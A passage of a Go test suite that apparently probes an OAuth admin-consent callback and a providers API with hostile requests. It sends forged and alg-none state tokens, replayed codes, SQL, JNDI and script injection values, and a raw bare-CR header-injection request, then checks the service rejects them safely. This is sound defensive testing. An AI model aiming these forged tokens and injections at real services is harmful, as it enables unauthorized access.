		if !ok {
			raw = q.(url.Values).Encode()
		}
		page("callback: "+name, "/consent/callback?"+raw, 400, invalidResp, noEcho...)
	}
	callback("no parameters", url.Values{})
	callback("no state", with(okQ(""), "state", ""))
	callback("random state", okQ("bm90LWEtc3RhdGU.c2ln"), "bm90LWEtc3RhdGU")
	callback("state signed with another key", okQ(forgedState), forgedState)
	callback("state with a tampered signature", okQ(tamperedSig), tamperedSig)
	callback("payload of one state, signature of another", okQ(swapped), swapped)
	callback("alg-none state", okQ(noneState), noneState)
	callback("unsigned state", okQ(unsigned), unsigned)
	callback("SQL-ish state", okQ(sqlish), sqlish)
	callback("template-ish state", okQ(tmplish), tmplish)
	callback("JNDI state", okQ(jndi), "jndi")
	callback("script state", okQ(script), script, "alert(1)")
	callback("state of 600 characters", okQ(strings.Repeat("A", 600)), strings.Repeat("A", 600))
	callback("state with a newline", okQ(fx.openState+"\n"), fx.openState)
	callback("valid state, tenant common", with(okQ(fx.openState), "tenant", "common"), fx.openState)
	callback("valid state, SQL-ish tenant", with(okQ(fx.openState), "tenant", sqlish), fx.openState, sqlish)
	callback("valid state, no admin_consent", with(okQ(fx.openState), "admin_consent", ""), fx.openState)
	callback("valid state, script error", with(with(okQ(fx.openState), "admin_consent", ""), "error", script), fx.openState, script, "alert(1)")
	callback("valid state, error_description of 5000 characters",
		with(with(okQ(fx.openState), "admin_consent", ""), "error", "access_denied").Encode()+"&error_description="+pad(5000), fx.openState)
	callback("valid state, query over 8 KiB", with(okQ(fx.openState), "scope", pad(9000)), fx.openState)
	callback("unused state of the declined invitation, malformed tenant", with(okQ(fx.unusedDeclinedState), "tenant", tmplish), fx.unusedDeclinedState)
	callback("malformed percent-encoding", "admin_consent=True&tenant="+contosoTenant+"&state=%zz", "%zz")

	// --- the sign-in response: codes Microsoft refuses, replayed codes, a
	// state of one step answering another, a tenant other than the proven one
	codeA := hostileQueryOf(t, fx.codeOfA)
	callback("code Microsoft never issued", url.Values{"code": {"0.AXoA-never-issued"}, "state": {fx.openBState}}, "never-issued")
	callback("code of another invitation", url.Values{"code": {codeA.Get("code")}, "state": {fx.openBState}}, codeA.Get("code"))
	callback("code with markup", url.Values{"code": {script}, "state": {fx.openBState}}, script, "alert(1)")
	callback("code of 5000 characters", url.Values{"code": {pad(5000)}, "state": {fx.openBState}})
	callback("code and admin_consent together", with(okQ(fx.openBState), "code", codeA.Get("code")), codeA.Get("code"))
	callback("sign-in state answering admin consent with another tenant", with(okQ(fx.openBState), "tenant", fabrikamTenant), fx.openBState)
	page("callback: replayed code", strings.TrimPrefix(fx.redeemedCallback, e.api), 400, "This sign-in response was already used")
	return cs
}

// check asserts the answer of one case.
func (c hostileCase) check(t *testing.T, r response) {
	t.Helper()
	if r.status >= 500 {
		t.Fatalf("%s %s: %d (5xx): %s", c.method, c.path, r.status, tail(string(r.raw), 1000))
	}
	lower := strings.ToLower(string(r.raw))
	for _, m := range hostileInternalMarkers {
		if strings.Contains(lower, m) {
			t.Errorf("the answer carries internal text %q: %s", m, tail(string(r.raw), 1000))
		}
	}
	if r.header.Get("X-Request-Id") == "" {
		t.Errorf("no X-Request-Id header")
	}
	if c.html {
		ct := r.header.Get("Content-Type")
		if r.status != c.status || !strings.HasPrefix(ct, "text/html") {
			t.Fatalf("got %d %s, want %d text/html: %s", r.status, ct, c.status, tail(string(r.raw), 600))
		}
		p := page{body: string(r.raw)}
		var err error
		if p.doc, err = hostileParseHTML(r.raw); err != nil {
			t.Fatalf("not HTML: %v", err)
		}
		if c.heading != "" && !strings.Contains(hostileHeading(p), c.heading) {
			t.Errorf("heading %q, want %q", hostileHeading(p), c.heading)
		}
		if strings.Contains(lower, "<script") || strings.Contains(lower, "javascript:") {
			t.Errorf("the page has a script: %s", tail(string(r.raw), 600))
		}
		for _, s := range c.noEcho {
			if s != "" && strings.Contains(string(r.raw), s) {
				t.Errorf("the page reflects the input %q", s)
			}
		}
		return
	}
	if r.status != c.status || r.errorCode() != c.code {
		t.Fatalf("got %d %q, want %d %q: %s", r.status, r.errorCode(), c.status, c.code, tail(string(r.raw), 600))
	}
	if ct := r.header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
		t.Errorf("Content-Type %q", ct)
	}
	if e, _ := r.json["error"].(map[string]any); e == nil || e["requestId"] == "" || e["message"] == "" {
		t.Errorf("error body lacks requestId or message: %s", r.raw)
	}
}

// hostileSend sends a request exactly as given: the path is not re-escaped
// and a body is sent as is (Content-Type application/json unless given).
func (e *env) hostileSend(t *testing.T, method, path, token string, body any, headers ...string) response {
	t.Helper()
	var rd *strings.Reader
	switch b := body.(type) {
	case nil:
	case string:
		rd = strings.NewReader(b)
	case []byte:
		rd = strings.NewReader(string(b))
	default:
		t.Fatalf("body of type %T", body)
	}
	var req *http.Request
	var err error
	if rd == nil {
		req, err = http.NewRequest(method, e.api+path, nil)
	} else {
		req, err = http.NewRequest(method, e.api+path, rd)
		req.Header.Set("Content-Type", "application/json")
	}
	if err != nil {
		t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	for i := 0; i+1 < len(headers); i += 2 {
		req.Header[http.CanonicalHeaderKey(headers[i])] = []string{headers[i+1]}
	}
	return e.send(t, req)
}

// rawHeaderInjection sends an Idempotency-Key with a bare CR followed by a
// would-be header, on a raw connection (net/http refuses to send one). The
// request must be refused with a 4xx before any function runs.
func (e *env) rawHeaderInjection(t *testing.T, token string) {
	u, _ := url.Parse(e.api)
	conn, err := net.DialTimeout("tcp", u.Host, 5*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(15 * time.Second))
	body := `{"name":"Injected","type":"azure","option":"migrate","azureAdminEmail":"a@contoso.example","subscriptionIds":[]}`
	fmt.Fprintf(conn, "POST /providers HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nIdempotency-Key: abc\rX-Injected: 1\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s",
		u.Host, token, len(body), body)
	buf := make([]byte, 4096)
	n, _ := hostileReadAll(conn, buf)
	line, _, _ := strings.Cut(string(buf[:n]), "\r\n")
	parts := strings.Fields(line)
	if len(parts) < 2 {
		t.Fatalf("no HTTP answer: %q", buf[:n])
	}
	status, _ := strconv.Atoi(parts[1])
	if status < 400 || status >= 500 {
		t.Fatalf("raw CR in a header: %q, want a 4xx", line)
	}
	if strings.Contains(strings.ToLower(string(buf[:n])), "x-injected") {
		t.Errorf("the injected header is reflected: %q", buf[:n])
	}
}

func hostileReadAll(conn net.Conn, buf []byte) (int, error) {
	n := 0
	for n < len(buf) {
		m, err := conn.Read(buf[n:])
		n += m
		if err != nil {
			return n, err
		}
	}
	return n, nil
}

// hostileReplays replays the declined callback: the same result page, every
// time, whatever the replay adds to the query.
func (e *env) hostileReplays(t *testing.T, fx *hostileFixture) {
	u, err := url.Parse(fx.declinedCallback)
	if err != nil {
		t.Fatal(err)
	}
	state := u.Query().Get("state")
	replays := map[string]string{
		"exact replay":         fx.declinedCallback,
		"replay as a consent":  e.api + "/consent/callback?" + url.Values{"admin_consent": {"True"}, "tenant": {contosoTenant}, "state": {state}}.Encode(),
		"replay with an error": e.api + "/consent/callback?" + url.Values{"error": {"consent_required"}, "state": {state}}.Encode(),
	}
	for name, link := range replays {
		p := e.fetch(t, "GET", link, nil)
		if p.status != 200 || hostileHeading(p) != fx.declinedHeading {
			t.Errorf("%s: %d %q, want the first answer: 200 %q", name, p.status, hostileHeading(p), fx.declinedHeading)
		}
	}
}

// hostileConcurrent fires bad requests at once: replays of the declined
// callback from several tabs, forged states at the open invitation, and
// creates reusing an Idempotency-Key with other bodies.
func (e *env) hostileConcurrent(t *testing.T, fx *hostileFixture) {
	const n = 6
	var wg sync.WaitGroup
	type result struct {
		what    string
		status  int
		heading string
		code    string
	}
	results := make(chan result, 3*n)
	payload, sig, _ := strings.Cut(fx.openState, ".")
	for i := 0; i < n; i++ {
		wg.Add(3)
		go func() {
			defer wg.Done()
			r := e.hostileSend(t, "GET", strings.TrimPrefix(fx.declinedCallback, e.api), "", nil)
			p := page{body: string(r.raw)}
			p.doc, _ = hostileParseHTML(r.raw)
			results <- result{"replay", r.status, hostileHeading(p), ""}
		}()
		go func(i int) {
			defer wg.Done()
			forged := payload + "." + sig[:len(sig)-2] + string("ABCDEFGHIJ"[i]) + "A"
			q := url.Values{"admin_consent": {"True"}, "tenant": {contosoTenant}, "state": {forged}}
			r := e.hostileSend(t, "GET", "/consent/callback?"+q.Encode(), "", nil)
			p := page{body: string(r.raw)}
			p.doc, _ = hostileParseHTML(r.raw)
			results <- result{"forged", r.status, hostileHeading(p), ""}
		}(i)
		go func(i int) {
			defer wg.Done()
			body, _ := json.Marshal(migrate(fmt.Sprintf("Concurrent reuse %d", i), ownedSub))
			r := e.hostileSend(t, "POST", "/providers", fx.admin, string(body), "Idempotency-Key", fx.idemKey)
			results <- result{"idempotency", r.status, "", r.errorCode()}
		}(i)
	}
	wg.Wait()
	close(results)
	for r := range results {
		switch r.what {
		case "replay":
			if r.status != 200 || r.heading != fx.declinedHeading {
				t.Errorf("concurrent replay: %d %q", r.status, r.heading)
			}
		case "forged":
			if r.status != 400 || r.heading != "This sign-in response is not valid" {
				t.Errorf("concurrent forged state: %d %q", r.status, r.heading)
			}
		case "idempotency":
			if r.status != 409 || r.code != "idempotency_key_reused" {
				t.Errorf("concurrent Idempotency-Key reuse: %d %q", r.status, r.code)
			}
		}
	}
}

// --- tokens -------------------------------------------------------------------

// hostileIssuerKey is the local cloud's signing key, read from <StateDir>/jwt-key.pem.
type hostileIssuerKey struct {
	key      *ecdsa.PrivateKey
	iss, aud string
}

func hostileLoadIssuerKey(t *testing.T, e *env) *hostileIssuerKey {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(e.c.StateDir(), cloud.KeyFile))
	if err != nil {
		t.Fatal(err)
	}
	block, _ := pem.Decode(data)
	if block == nil {
		t.Fatal("the JWT key file is not PEM")
	}
	key, err := x509.ParseECPrivateKey(block.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	return &hostileIssuerKey{key: key, iss: block.Headers["Issuer"], aud: block.Headers["Audience"]}
}

func (k *hostileIssuerKey) claims(account string, roles ...string) jwt.MapClaims {
	now := time.Now()
	return jwt.MapClaims{"iss": k.iss, "aud": k.aud, "sub": cloud.SubjectFor(account), "account_id": account, "roles": roles,
		"iat": now.Unix(), "exp": now.Add(time.Hour).Unix()}
}

// hostileTamper changes the token's signature (its first character: every bit of
// it counts, unlike the last one's padding bits).
func hostileTamper(tok string) string {
	i := strings.LastIndexByte(tok, '.') + 1
	c := byte('A')
	if tok[i] == 'A' {
		c = 'B'
	}
	return tok[:i] + string(c) + tok[i+1:]
}

func hostileFlipLast(s string) string {
	if s == "" {
		return "A"
	}
	c := byte('A')
	if s[len(s)-2] == 'A' {
		c = 'B'
	}
	return s[:len(s)-2] + string(c) + s[len(s)-1:]
}

// --- consent states ------------------------------------------------------------

type hostileStateFields struct {
	Invitation string `json:"inv"`
	JTI        string `json:"jti"`
	Expires    int64  `json:"exp"`
}

// hostileStatePayload is a well-formed state payload bound to an invitation id.
func hostileStatePayload(invitationID string) hostileStateFields {
	h := sha256.Sum256([]byte(invitationID))
	jti := make([]byte, 16)
	_, _ = rand.Read(jti)
	return hostileStateFields{Invitation: hex.EncodeToString(h[:]), JTI: hex.EncodeToString(jti), Expires: time.Now().Add(time.Hour).Unix()}
}

// hostileSignState signs a payload as shared/consent does, with key.
func hostileSignState(key []byte, s hostileStateFields) string {
	raw, _ := json.Marshal(s)
	p := base64.RawURLEncoding.EncodeToString(raw)
	m := hmac.New(sha256.New, key)
	m.Write([]byte("state\x00" + p))
	return p + "." + base64.RawURLEncoding.EncodeToString(m.Sum(nil))
}

func hostileB64(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

// --- pages ----------------------------------------------------------------------

func hostileHeading(p page) string {
	if p.doc == nil {
		return ""
	}
	var out string
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if out != "" {
			return
		}
		if n.Type == html.ElementNode && n.Data == "h1" {
			out = strings.Join(strings.Fields(hostileText(n)), " ")
			return
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(p.doc)
	return out
}

// hostileText is the text under n.
func hostileText(n *html.Node) string {
	if n.Type == html.TextNode {
		return n.Data
	}
	var b strings.Builder
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		b.WriteString(hostileText(c))
		b.WriteString(" ")
	}
	return b.String()
}

func hostileParseHTML(raw []byte) (*html.Node, error) { return html.Parse(bytes.NewReader(raw)) }

// --- the table ------------------------------------------------------------------

func (e *env) hostileDynamo() *dynamodb.Client {
	return dynamodb.New(dynamodb.Options{
		Region:       "us-east-1",
		BaseEndpoint: aws.String(e.ep["dynamodb"]),
		Credentials:  credentials.NewStaticCredentialsProvider("AKIDHOSTILE", "hostile-secret", ""),
	})
}

// hostileScan returns every item of every table of the template, each as a
// canonical string, by table and primary key.
func hostileScan(t *testing.T, e *env) map[string]string {
	t.Helper()
	client := e.hostileDynamo()
	out := map[string]string{}
	tables := e.c.Template().Tables
	if len(tables) == 0 {
		t.Fatal("the template has no table")
	}
	for _, tb := range tables {
		p := dynamodb.NewScanPaginator(client, &dynamodb.ScanInput{TableName: aws.String(tb.Name), ConsistentRead: aws.Bool(true)})
		for p.HasMorePages() {
			page, err := p.NextPage(context.Background())
			if err != nil {
				t.Fatalf("scan %s: %v", tb.Name, err)
			}
			for _, item := range page.Items {
				key := tb.Name
				for _, ks := range tb.KeySchema {
					key += " | " + hostileAV(item[ks.Name])
				}
				if _, dup := out[key]; dup {
					t.Fatalf("scan of %s returned %s twice", tb.Name, key)
				}
				out[key] = hostileAV(&types.AttributeValueMemberM{Value: item})
			}
		}
	}
	return out
}

// hostileWaitQuiet scans until two scans a second apart agree: the setup's
// asynchronous writes (the declined execution's last task) have landed.
func (e *env) hostileWaitQuiet(t *testing.T) map[string]string {
	t.Helper()
	prev := hostileScan(t, e)
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		time.Sleep(time.Second)
		cur := hostileScan(t, e)
		if hostileEqualTables(prev, cur) {
			return cur
		}
		prev = cur
	}
	t.Fatal("the table did not settle before the batch")
	return nil
}

func hostileEqualTables(a, b map[string]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if b[k] != v {
			return false
		}
	}
	return true
}

func hostileDiffTables(t *testing.T, before, after map[string]string) {
	t.Helper()
	var diffs []string
	for k, v := range before {
		w, ok := after[k]
		switch {
		case !ok:
			diffs = append(diffs, "deleted: "+k+"\n    "+v)
		case w != v:
			diffs = append(diffs, "changed: "+k+"\n    before: "+v+"\n    after:  "+w)
		}
	}
	for k, v := range after {
		if _, ok := before[k]; !ok {
			diffs = append(diffs, "added: "+k+"\n    "+v)
		}
	}
	sort.Strings(diffs)
	if len(diffs) > 0 {
		t.Errorf("the hostile requests changed the table (%d items before, %d after):\n%s", len(before), len(after), strings.Join(diffs, "\n"))
	} else {
		t.Logf("table unchanged: %d items", len(after))
	}
}

// hostileAV renders an attribute value canonically (sets and maps sorted).
func hostileAV(v types.AttributeValue) string {
	switch x := v.(type) {
	case nil:
		return "<absent>"
	case *types.AttributeValueMemberS:
		return "S" + strconv.Quote(x.Value)
	case *types.AttributeValueMemberN:
		return "N" + x.Value
	case *types.AttributeValueMemberB:
		return "B" + base64.StdEncoding.EncodeToString(x.Value)
	case *types.AttributeValueMemberBOOL:
		return "BOOL" + strconv.FormatBool(x.Value)
	case *types.AttributeValueMemberNULL:
		return "NULL"
	case *types.AttributeValueMemberSS:
		s := append([]string(nil), x.Value...)
		sort.Strings(s)
		return "SS" + fmt.Sprintf("%q", s)
	case *types.AttributeValueMemberNS:
		s := append([]string(nil), x.Value...)
		sort.Strings(s)
		return "NS" + fmt.Sprint(s)
	case *types.AttributeValueMemberBS:
		s := make([]string, len(x.Value))
		for i, b := range x.Value {
			s[i] = base64.StdEncoding.EncodeToString(b)
		}
		sort.Strings(s)
		return "BS" + fmt.Sprint(s)
	case *types.AttributeValueMemberL:
		s := make([]string, len(x.Value))
		for i, e := range x.Value {
			s[i] = hostileAV(e)
		}
		return "L[" + strings.Join(s, ",") + "]"
	case *types.AttributeValueMemberM:
		keys := make([]string, 0, len(x.Value))
		for k := range x.Value {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		s := make([]string, len(keys))
		for i, k := range keys {
			s[i] = strconv.Quote(k) + ":" + hostileAV(x.Value[k])
		}
		return "M{" + strings.Join(s, ",") + "}"
	}
	return fmt.Sprintf("?%T", v)
}
